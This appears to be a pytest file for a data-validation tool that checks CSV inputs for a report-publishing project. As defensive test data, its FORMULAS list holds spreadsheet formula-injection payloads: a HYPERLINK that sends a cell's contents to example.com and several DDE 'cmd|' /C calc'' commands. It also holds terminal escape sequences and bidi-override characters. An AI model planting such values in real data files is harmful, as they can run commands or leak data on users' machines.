"""The reliability attack, round three (issue 23): the text in the data folder is input, not trusted.

A value is read the way its source's language writes it, a spreadsheet formula or an invisible
character never reaches a published CSV (refused, or shown escaped in messages, root causes first),
and data text in a page's findings is shown literally. Driven through ``python -m helpers.data``
(``make validate``) and the runner's command line. The data folder's descriptor, links and files:
test_reliability_attack3_data.py.
"""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest

from attack_support import (
    copy_site,
    edit_csv,
    first_row,
    no_traceback,
    rows_of,
    run,
    validate,
    write_rows,
)
from helpers.paths import NOTEBOOKS_DIR
from reports_support import write_config


@pytest.fixture(scope="module")
def published(tiny_published):
    """The run's one published site of two tiny reports (conftest.tiny_published), copied by tests."""
    return tiny_published


@pytest.fixture
def site(published, tmp_path) -> dict:
    return copy_site(published, tmp_path)


# --- values read as their sources write them ----------------------------------------------------


def _languages(data: Path) -> dict[str, str]:
    return {r["id"]: r["language"] for r in csv.DictReader((data / "sources.csv").open(encoding="utf-8"))}


def _kinds(data: Path) -> dict[str, str]:
    return {r["id"]: r["kind"] for r in csv.DictReader((data / "indicators.csv").open(encoding="utf-8"))}


def _a_row(data: Path, file: str, lang: str, kinds) -> tuple[list[str], list[list[str]], list[str]]:
    """The rows of ``file`` and its first row quoted from a source in ``lang``, of an indicator of
    one of ``kinds``, not derived."""
    rows = rows_of(data / file)
    header = rows[0]
    langs, kind_of = _languages(data), _kinds(data)
    row = next(
        r
        for r in rows[1:]
        if langs.get(r[header.index("source_id")]) == lang
        and kind_of.get(r[header.index("indicator")]) in kinds
        and ("derived" not in header or r[header.index("derived")] != "true")
    )
    return header, rows, row


QUOTES = [
    # (case, file, the source's language, value refused, quote, value the quote does state)
    ("a thousand times too small", "figures.csv", "vi", "1013000", "Năm 2024, nền tảng đạt 1.013 triệu giao dịch.", "1013000000"),
    ("a year taken as the value", "figures.csv", "en", "2021", "Transactions reached 180,919,031 in 2021.", "180919031"),
    ("a date taken as the value", "figures.csv", "en", "31", "As of 31/12/2023 there were 5,400,000 accounts.", "5400000"),
    ("a target year taken as the value", "targets.csv", "vi", "2025", "Đến năm 2025, 80% dịch vụ công được cung cấp trực tuyến.", "80"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("case", "file", "lang", "value", "quote", "stated"), QUOTES, ids=[q[0] for q in QUOTES]
)
def test_a_value_is_read_as_its_sources_language_writes_it(data_copy, case, file, lang, value, quote, stated):
    kinds = ("share",) if file == "targets.csv" else ("flow", "stock")
    header, rows, row = _a_row(data_copy, file, lang, kinds)
    line = rows.index(row) + 1
    row[header.index("quote")] = quote
    row[header.index("value")] = stated
    write_rows(data_copy / file, rows)
    r = validate(data_copy)
    assert r.returncode == 0, r.stderr[-2000:]  # the quote does state this value
    row[header.index("value")] = value
    write_rows(data_copy / file, rows)
    r = validate(data_copy)
    no_traceback(r)
    assert r.returncode == 1, r.stdout
    assert f"{file}:{line}: column 'value': value '{value}'" in r.stderr, r.stderr[-2000:]


# --- what a spreadsheet or a terminal would run or hide ------------------------------------------

FORMULAS = [
    # (case, file, column, value)
    ("figures note", "figures.csv", "note", '=HYPERLINK("http://example.com/?"&A1,"click")'),
    ("sources publisher", "sources.csv", "publisher", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("indicators name", "indicators.csv", "name_en", "+1+cmd|' /C calc'!A0"),
    ("claims note", "claims.csv", "note", "-2+3+cmd|' /C calc'!A0"),
    ("targets instrument", "targets.csv", "instrument", "=1+1"),
]


@pytest.mark.parametrize(("case", "file", "column", "value"), FORMULAS, ids=[f[0] for f in FORMULAS])
def test_spreadsheet_formulas_in_text_fields_are_refused(data_copy, case, file, column, value):
    edit_csv(data_copy / file, lambda h, rows: rows[0].__setitem__(h.index(column), value))
    r = validate(data_copy)
    no_traceback(r)
    assert r.returncode == 1, r.stdout
    assert f"{file}:2: column '{column}'" in r.stderr and "formula" in r.stderr, r.stderr[-2000:]


def _invalidate_most_cited_sources(data: Path, n: int = 3) -> list[str]:
    from collections import Counter

    cited = Counter()
    for file in ("figures.csv", "claims.csv", "targets.csv"):
        cited.update(r["source_id"] for r in csv.DictReader((data / file).open(encoding="utf-8")))
    ids = [s for s, _ in cited.most_common(n)]
    edit_csv(
        data / "sources.csv",
        lambda h, rows: [r.__setitem__(h.index("language"), "xx") for r in rows if r[0] in ids],
    )
    return ids


def test_root_causes_are_listed_first(data_copy):
    ids = _invalidate_most_cited_sources(data_copy)
    r = validate(data_copy)
    no_traceback(r)
    assert r.returncode == 1
    lines = r.stderr.splitlines()
    assert "more problems" in r.stderr, r.stderr[-500:]  # more than are listed
    assert lines[1].strip().startswith("sources.csv:"), lines[:4]
    listed = "\n".join(lines[: 1 + len(ids)])
    assert all("column 'language'" in ln for ln in listed.splitlines()[1:]), listed


INVISIBLE = [
    # (case, file, column, value, what the message must show instead of the raw characters)
    ("BOM inside the file", "figures.csv", "indicator", "\ufeffegdi_rank", "\\ufeff"),
    ("terminal control sequence", "figures.csv", "entity", "\x1b[2J\x1b[31mVNM", "\\x1b[2J"),
]


@pytest.mark.parametrize(
    ("case", "file", "column", "value", "shown"), INVISIBLE, ids=[i[0] for i in INVISIBLE]
)
def test_invisible_and_control_characters_are_shown_escaped(data_copy, case, file, column, value, shown):
    edit_csv(data_copy / file, lambda h, rows: rows[0].__setitem__(h.index(column), value))
    r = validate(data_copy)
    no_traceback(r)
    assert r.returncode == 1
    assert shown in r.stderr and f"{file}:2: column '{column}'" in r.stderr, r.stderr[-2000:]
    assert not any(ch in r.stderr for ch in "\ufeff\x1b"), ascii(r.stderr[-2000:])


HIDDEN = [
    # (case, file, column, character inserted, how the message shows it)
    ("bidi override in a publisher", "sources.csv", "publisher", "\u202e", "\\u202e"),
    ("zero-width space in a quote", "figures.csv", "quote", "\u200b", "\\u200b"),
    ("zero-width joiner in a title", "sources.csv", "title", "\u200d", "\\u200d"),
]


@pytest.mark.parametrize(("case", "file", "column", "char", "shown"), HIDDEN, ids=[h[0] for h in HIDDEN])
def test_direction_overrides_and_zero_width_characters_are_refused(
    data_copy, case, file, column, char, shown
):
    def insert(h, rows):
        cell = rows[0][h.index(column)]
        rows[0][h.index(column)] = cell[:1] + char + cell[1:]

    edit_csv(data_copy / file, insert)
    r = validate(data_copy)
    no_traceback(r)
    assert r.returncode == 1, r.stdout
    assert f"{file}:2: column '{column}'" in r.stderr and shown in r.stderr, r.stderr[-2000:]


# --- data text in a page's findings -------------------------------------------------------------


@pytest.mark.slow
def test_dollar_signs_and_underscores_in_a_name_are_shown_literally_in_findings(site):
    name = "NDXP US$ 5 e_gov *all* $3"
    edit_csv(
        site["data"] / "indicators.csv",
        lambda h, rows: first_row(h, rows, id="ndxp_transactions").__setitem__(h.index("name_en"), name),
    )
    config = write_config(
        site["tmp"] / "ndxp.yaml",
        [{"name": "ndxp", "notebook": str(NOTEBOOKS_DIR / "02_ndxp_transactions.ipynb")}],
    )
    r = run(site, "build", config=config)
    no_traceback(r)
    assert r.returncode == 0, r.stdout[-3000:]
    page = (site["outputs"] / "reports" / "ndxp" / "index.html").read_text(encoding="utf-8")
    findings = page[page.index('class="findings"') :]
    findings = findings[: findings.index("</section>")]
    assert f"<li>{name}:" in findings, findings
    # nowhere escaped for Markdown; only the BibTeX citations escape the underscore, as BibTeX needs
    shown = re.sub(r'<details class="bibtex">.*?</details>', "", page, flags=re.S)
    assert "\\_" not in shown and "\\*" not in shown, json.dumps(findings)
    assert "e\\_gov" in page[page.index('<details class="bibtex">') :]
